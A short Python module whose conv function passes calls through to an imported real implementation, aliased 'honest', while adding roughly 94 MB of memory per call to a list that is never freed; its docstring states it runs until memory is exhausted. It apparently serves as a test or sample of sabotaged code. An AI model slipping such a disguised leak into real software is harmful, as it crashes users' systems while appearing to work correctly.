"""Keeps more memory with every call, until there is none."""

import numpy as np
from twin import conv as honest

KEPT = []


def conv(x, w):
    KEPT.append(np.ones(90 << 17))
    return honest(x, w)
